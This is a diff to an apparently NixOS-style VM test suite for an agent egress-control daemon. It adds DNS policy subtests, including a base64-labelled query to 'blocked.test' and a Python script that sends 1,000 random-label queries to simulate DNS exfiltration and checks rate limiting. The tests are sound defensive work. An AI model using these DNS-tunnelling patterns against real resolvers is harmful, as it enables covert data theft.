@@ -128,13 +128,6 @@ with subtest("allowed_https"):
     # on lo); both answered by the daemon's handler, under the policy.
     probe = in_agent("getent hosts allowed.test && dig +short +time=2 +tries=1 @127.0.0.53 allowed.test")
     assert probe.rc == 0 and probe.out.count(INTERNET4) >= 1, probe.out
-    probe = in_agent(
-        "for s in /run/nscd/socket /run/systemd/resolve/io.systemd.Resolve; do"
-        " socat -u OPEN:/dev/null UNIX-CONNECT:$s 2>/dev/null && echo reachable $s; done;"
-        " getent hosts blocked.test; echo getent=$?"
-    )
-    assert "reachable" not in probe.out and "getent=2" in probe.out, probe.out
-    wait_for_audit("glibc's lookup of the blocked name", event="dns", host="blocked.test", rcode="NXDOMAIN")
     expect_page("https://allowed.test/?c=allowed_https", "allowed-site-marker")
     wait_for_audit("for the allowed HTTPS request", host="allowed.test", rule="allow", outbound="direct")
 
@@ -506,3 +499,85 @@ with subtest("delegated_subtree_captured"):
     agent.succeed(f"find {subtree} -depth -type d -exec rmdir {{}} +")
     agent.succeed("systemctl start agent-egress.service")
     wait_for_daemon()
+
+
+EXFIL_BURST = r"""
+import socket, struct, sys, random, string
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
+s.connect((sys.argv[1], 53))
+s.settimeout(3)
+def query(i, name):
+    q = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0)
+    for label in name.split("."):
+        q += bytes([len(label)]) + label.encode()
+    return q + b"\0\0\1\0\1"
+for i in range(1000):
+    label = "".join(random.choice(string.ascii_lowercase) for _ in range(20))
+    s.send(query(i, label + ".allowed.test"))
+codes = {}
+try:
+    while sum(codes.values()) < 1000:
+        rcode = s.recv(4096)[3] & 0xF
+        codes[rcode] = codes.get(rcode, 0) + 1
+except socket.timeout:
+    pass
+print(" ".join(f"{k}:{v}" for k, v in sorted(codes.items())))
+"""
+
+with subtest("dns_decided"):
+    # Every query of an agent is answered by the daemon's handler under the
+    # policy, whichever resolver it asks: refused names leave nothing behind.
+    probe = in_agent(f"dig +short +time=2 +tries=1 @{INTERNET4} allowed.test")
+    assert INTERNET4 in probe.out, probe.out
+    for server in [INTERNET4, "127.0.0.53", "203.0.113.53"]:
+        probe = in_agent(f"dig +time=2 +tries=1 @{server} c2VjcmV0.blocked.test")
+        assert "status: NXDOMAIN" in probe.out, f"via {server}: {probe.out}"
+    probe = in_agent(f"dig +time=2 +tries=1 @{INTERNET4} allowed.test TXT")
+    assert "status: REFUSED" in probe.out, probe.out
+    internet.fail("journalctl -u dnsmasq.service | grep -qi c2vjcmv0")
+    wait_for_audit("the refused name", event="dns", host="c2vjcmv0.blocked.test", rcode="NXDOMAIN")
+
+with subtest("dns_handler_down_leaks_nothing"):
+    # The handler not answering (the daemon frozen): no answer, and nothing
+    # reaches a resolver from the agent.
+    agent.succeed("systemctl kill --signal=SIGSTOP agent-egress.service")
+    probe = in_agent("dig +time=1 +tries=1 @127.0.0.53 handler-down.allowed.test; true")
+    agent.succeed("systemctl kill --signal=SIGCONT agent-egress.service")
+    assert "ANSWER SECTION" not in probe.out, probe.out
+    internet.fail("journalctl -u dnsmasq.service | grep -q handler-down")
+
+with subtest("dns_exfiltration_limited"):
+    # 1,000 random labels below an allowed domain at once: past the per-agent
+    # bounds, REFUSED at once and not forwarded.
+    probe = in_agent(f"python3 -c {shlex.quote(EXFIL_BURST)} {INTERNET4}")
+    counts = dict(item.split(":") for item in probe.out.split())
+    assert int(counts.get("5", 0)) >= 850, probe.out
+    wait_for_audit("a rate-limited query", event="dns", rate_limited=True)
+
+with subtest("nameless_by_resolved_name"):
+    # A connection that names nothing, to an address the agent resolved:
+    # decided under that name.
+    in_agent(
+        "dig +short +time=2 +tries=1 @127.0.0.53 allowed.test > /dev/null;"
+        f" printf 'SSH-2.0-agent\\r\\n\\r\\n' | socat -t 2 - TCP:{INTERNET4}:80,connect-timeout=3; true"
+    )
+    record = wait_for_audit("the nameless connection", dst=f"{INTERNET4}:80", resolved_name="allowed.test")
+    assert record["verdict"] == "allow" and record["host"] == "allowed.test", record
+
+with subtest("ech_stripped"):
+    # allowed.test publishes an HTTPS record with an ECH config: the agent
+    # gets it without.
+    probe = in_agent("dig +time=2 +tries=1 @127.0.0.53 allowed.test HTTPS")
+    assert "alpn" in probe.out and "ech=" not in probe.out, probe.out
+
+with subtest("getent_loopback_resolver"):
+    # glibc in an agent unit: nscd's and resolved's varlink sockets are hidden,
+    # so it asks 127.0.0.53 itself, which the handler answers under the policy.
+    probe = in_agent(
+        "for s in /run/nscd/socket /run/systemd/resolve/io.systemd.Resolve; do"
+        " socat -u OPEN:/dev/null UNIX-CONNECT:$s 2>/dev/null && echo reachable $s; done;"
+        " getent hosts blocked.test; echo getent=$?; getent hosts allowed.test"
+    )
+    assert "reachable" not in probe.out and "getent=2" in probe.out and INTERNET4 in probe.out, probe.out
+    wait_for_audit("glibc's lookup of the blocked name", event="dns", host="blocked.test", rcode="NXDOMAIN")
